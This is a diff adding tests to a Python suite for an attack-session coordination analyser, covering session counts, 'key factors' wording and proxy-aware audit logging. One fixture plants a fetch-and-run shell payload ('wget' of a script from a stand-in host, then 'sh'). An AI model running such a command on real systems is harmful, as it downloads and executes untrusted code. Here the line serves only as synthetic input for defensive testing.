@@ -1,11 +1,13 @@
 #!/usr/bin/env python3
 """The REST contract, asked of the real server: what the two known clients send, and what they expect to get."""
+import contextlib
 import gzip
 import json
 import os
 import re
 import signal
 import socket
+import sqlite3
 import subprocess
 import unittest
 
@@ -295,6 +297,27 @@ class Contract(Serving):
         for bad in ("limit=0", "limit=201", "limit=x", "status=done", "from=x", "cursor=x", "cursor=1_"):
             self.assertEqual("query", self.error(self.server.get("/analyze?" + bad), 422)["detail"][0]["loc"][0])
 
+    def test_the_list_counts_what_was_analysed(self):
+        for body, more, label, count in ((ndjson(background(30)), {"path": "/ingest?label=counted-log&depth=minimal"}, "counted-log", 30),
+                                         ({"attack_sessions": sessions(3) + [{"note": "no address"}], "label": "counted",
+                                           "analysis_depth": "minimal"}, {}, "counted", 3)):
+            result = self.server.finished(self.server.submit(body, **more))
+            row, = self.server.get("/analyze?label=" + label).json()["analyses"]
+            self.assertEqual((count, count), (result["session_count"], row["session_count"]))
+
+    def test_key_factors_speak_for_or_against(self):
+        planted = [{"source_ip": f"198.51.{i}.7", "timestamp": f"2025-07-{day:02d}T{hour:02d}:00:{2 * i:02d}Z", "protocol": "ssh",
+                    "payload": f"cd /tmp; wget http://203.0.113.9/{hour}x.sh; sh {hour}x.sh"}
+                   for day in range(1, 5) for hour in range(0, 24, 4) for i in range(8)]
+        others = [{"source_ip": f"192.0.{i}.{i}", "timestamp": f"2025-07-{i % 4 + 1:02d}T{i % 24:02d}:{i * 7 % 60:02d}:11Z",
+                   "protocol": "ssh", "payload": f"id {i}"} for i in range(1, 200)]
+        result = self.server.finished(self.server.submit({"attack_sessions": planted + others}))
+        self.assertIn(result["verdict"], ("single_actor_multiple_sources", "coordinated_campaign"), result["reasoning"])
+        factors = result["key_factors"]
+        self.assertTrue(any(f.startswith("for: Sharing an exclusive artefact: ") for f in factors), factors)
+        for factor in factors:
+            self.assertRegex(factor, "^(for|against): [A-Z]")
+
     def test_deletion(self):
         analysis = self.server.submit()
         self.server.finished(analysis)
@@ -536,6 +559,25 @@ class Life(unittest.TestCase):
                             ("COORD_CALLBACK_PORTS", "http"), ("COORD_MAX_SESSIONS", "many")):
             with self.assertRaisesRegex(AssertionError, name):
                 Server(self.folder, **{name: value})
+
+    def remotes(self, header, **settings):
+        """Whom the audit log names for one submission."""
+        server = Server(self.folder, **settings)
+        self.assertEqual(200, server.post("/analyze/coordination", {"attack_sessions": sessions()},
+                                          headers={"X-Forwarded-For": header, "X-Request-Id": "asked"}).status)
+        self.assertEqual(0, server.stop())
+        with contextlib.closing(sqlite3.connect(os.path.join(self.folder, "state/coord.db"))) as db:
+            return [row[0] for row in db.execute("SELECT remote FROM audit WHERE request_id = 'asked'")]
+
+    def test_who_asked_behind_a_trusted_proxy(self):
+        self.assertEqual(["198.51.100.7"], self.remotes("203.0.113.1, 198.51.100.7", COORD_TRUSTED_PROXIES="127.0.0.0/8"))
+
+    def test_a_stranger_does_not_choose_its_address(self):
+        self.assertEqual(["127.0.0.1"], self.remotes("198.51.100.7"))
+        result = subprocess.run([COORD, "serve"], env=environment(COORD_STATE_DIR=self.folder, COORD_TRUSTED_PROXIES="nginx"),
+                                capture_output=True, timeout=DEADLINE_S, check=False)
+        self.assertEqual(2, result.returncode)
+        self.assertIn(b"COORD_TRUSTED_PROXIES", result.stderr)
 
     def test_a_taken_port_is_told(self):
         with socket.socket() as s:
